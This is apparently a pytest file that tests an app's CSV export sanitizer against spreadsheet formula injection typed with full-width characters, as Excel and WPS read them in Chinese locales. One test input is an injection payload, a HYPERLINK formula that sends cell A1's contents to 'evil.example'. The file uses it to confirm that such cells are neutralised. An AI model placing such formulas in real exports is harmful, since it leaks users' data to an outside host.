"""Exports as the office opens them: Excel or WPS on a Chinese Windows desktop."""
import csv
import io

import pytest

from app.services import exports


def read_csv(data):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


# A Chinese input method types the full-width forms; Excel and WPS in a Chinese (or
# Japanese) locale fold them to ASCII when they read a cell, so ＝1+1 is run as =1+1 and
# ０２１５７００１２３４ becomes the number 2157001234, as their ASCII twins would.
@pytest.mark.parametrize("typed", [
    '＝HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "＋8613912345678",
    "－1+2",
    "＠SUM(1)",
    "﹦1+1",  # the small equals sign folds to = as well
    "０２１５７００１２３４",  # a landline typed in full-width digits: the 0 stays
])
def test_full_width_formula_and_number_starts_begin_with_a_quote(app, typed):
    assert exports.safe_cell(typed) == "'" + typed
    parsed = read_csv(b"".join(exports.csv_chunks(["意见"], [[typed]])))
    assert parsed[1] == ["'" + typed]


@pytest.mark.parametrize("typed", [
    "（１）展板字太小",  # a full-width bracket or digit inside a text is left alone
    "１３９１２３４５６７８",  # a mobile number reads as written, like its ASCII twin
    "非常好，＝号写错了",
    "Ａ区展板",
])
def test_other_full_width_texts_are_left_as_typed(app, typed):
    assert exports.safe_cell(typed) == typed
    parsed = read_csv(b"".join(exports.csv_chunks(["意见"], [[typed]])))
    assert parsed[1] == [typed]
